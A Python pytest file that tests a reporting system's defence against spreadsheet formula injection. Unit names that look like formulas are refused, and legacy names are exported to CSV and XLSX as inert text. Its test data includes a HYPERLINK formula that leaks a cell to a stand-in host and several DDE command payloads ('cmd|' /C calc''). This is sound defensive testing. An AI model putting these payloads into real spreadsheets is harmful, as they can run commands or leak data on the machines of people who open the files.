"""No spreadsheet the system writes carries a live formula: unit names that start
like one are refused, and names stored before that rule come out of every report
and of the learner export as plain text."""
import pytest
from sqlalchemy import create_engine, text

from services.common import settings
from tests.client import unique
from tests.system.confirmation_support import confirm
from tests.system.reporting_support import (
    XLSX, add_learner, csv_rows, export, report, rounds_of_a_year, wait_for, xlsx_book,
)

LINK = '=HYPERLINK("http://x.example/?"&A1,"x")'
OLD_NAMES = {"lao_a": LINK, "lao_b": "-2+3+cmd|' /C calc'!A0", "school_a": "@SUM(1+1)*cmd|' /C calc'!A0",
             "province": "+cmd|' /C calc'!A0"}


@pytest.mark.parametrize("name", [LINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+2", "\r=1+2", "  =1+2"])
def test_a_unit_named_like_a_formula_is_refused(tree, name):
    r = tree["lao_a"].post("/org-units", {"code": unique("F"), "name": name, "type": "school",
                                           "parent_id": tree.id("lao_a")})
    assert r.status_code == 422, r.text
    body = r.json()
    assert body["code"] == "validation_error" and "name" in body["errors"], body


def _execute(service, sql, **params):
    engine = create_engine(settings.database_url(service), pool_size=1)
    try:
        with engine.begin() as conn:
            conn.execute(text(sql), params)
    finally:
        engine.dispose()


def _csv_cells(response):
    return [cell for row in csv_rows(response) for cell in row]


def _xlsx_cells(response):
    """value -> data type of every text cell; fails on any formula cell."""
    found = {}
    for ws in xlsx_book(response).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    found[cell.value] = cell.data_type
    return found


def test_names_stored_before_the_rule_come_out_of_the_reports_as_text(admin, tree):
    made = rounds_of_a_year(admin, numbers=(1, 2))
    t, rid, r1 = tree, made[2]["id"], made[1]["id"]
    add_learner(t["school_a"], rid, t.id("school_a"), "p1")
    add_learner(t["school_b"], rid, t.id("school_b"), "p2")
    add_learner(t["school_b"], r1, t.id("school_b"), "p2")
    add_learner(t["school_b"], r1, t.id("school_b"), "p3")
    confirm(t["school_a"], rid, t.id("school_a"))
    prov = t.id("province")
    wait_for(lambda: report(t["province"], rid, "budget", prov)["totals"]["all"]["units"] == 1
             and report(t["province"], rid, "summary", prov)["learners"]["total"] == 2)
    for key, name in OLD_NAMES.items():
        _execute("reporting", "UPDATE rp_units SET name = :n WHERE id = :i", n=name, i=t.id(key))
    base = f"/rounds/{rid}/reports"
    expected = {"progress": ("lao_a", "lao_b"), "budget": ("lao_a", "school_a"), "comparison": ("lao_a", "lao_b")}
    for name, keys in expected.items():
        params = {"org_unit_id": prov, **({"against": r1} if name == "comparison" else {})}
        data = report(t["province"], rid, name, **params)
        assert OLD_NAMES["lao_a"] in str(data)          # the JSON view shows names as they are
        cells = _csv_cells(export(t["province"], f"{base}/{name}", "text/csv", **params))
        typed = _xlsx_cells(export(t["province"], f"{base}/{name}", XLSX, **params))
        for key in keys:
            assert "'" + OLD_NAMES[key] in cells, (name, key)
            assert OLD_NAMES[key] not in cells, (name, key)
            assert typed.get("'" + OLD_NAMES[key]) == "s", (name, key, typed)
        for cell in cells:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), (name, cell)
    # a negative number stays a number: lao b dropped from two learners to one
    params = {"org_unit_id": prov, "against": r1}
    row = next(r for r in csv_rows(export(t["province"], f"{base}/comparison", "text/csv", **params))
               if "'" + OLD_NAMES["lao_b"] in r)
    assert row[3:6] == ["2", "1", "-1"]
    row = next(r for ws in xlsx_book(export(t["province"], f"{base}/comparison", XLSX, **params)).worksheets
               for r in ws.iter_rows(values_only=True) if "'" + OLD_NAMES["lao_b"] in r)
    assert list(row[3:6]) == [2, 1, -1]


def test_learner_names_stored_before_the_rule_come_out_of_the_export_as_text(admin, tree):
    rid = rounds_of_a_year(admin)[2]["id"]
    t = tree
    made = add_learner(t["school_a"], rid, t.id("school_a"), "p1")
    _execute("enrollment", "UPDATE learners SET prefix = '-x', first_name = :f, last_name = '@SUM(A1)', "
                           "nationality = '+ไทย' WHERE id = :i", f=LINK, i=made["id"])
    url = f"/rounds/{rid}/institutions/{t.id('school_a')}/learners/export"
    rows = csv_rows(t["school_a"].get(url, params={"format": "csv"}))
    record = dict(zip(rows[0], rows[1]))
    assert (record["prefix"], record["first_name"], record["last_name"], record["nationality"]) == \
        ("'-x", "'" + LINK, "'@SUM(A1)", "'+ไทย")
    assert record["national_id"] == made["national_id"]
    r = t["school_a"].get(url, params={"format": "xlsx"})
    assert r.status_code == 200 and r.headers["Content-Type"].startswith(XLSX)
    typed = _xlsx_cells(r)
    for value in ("'-x", "'" + LINK, "'@SUM(A1)", "'+ไทย", made["national_id"]):
        assert typed.get(value) == "s", (value, typed)
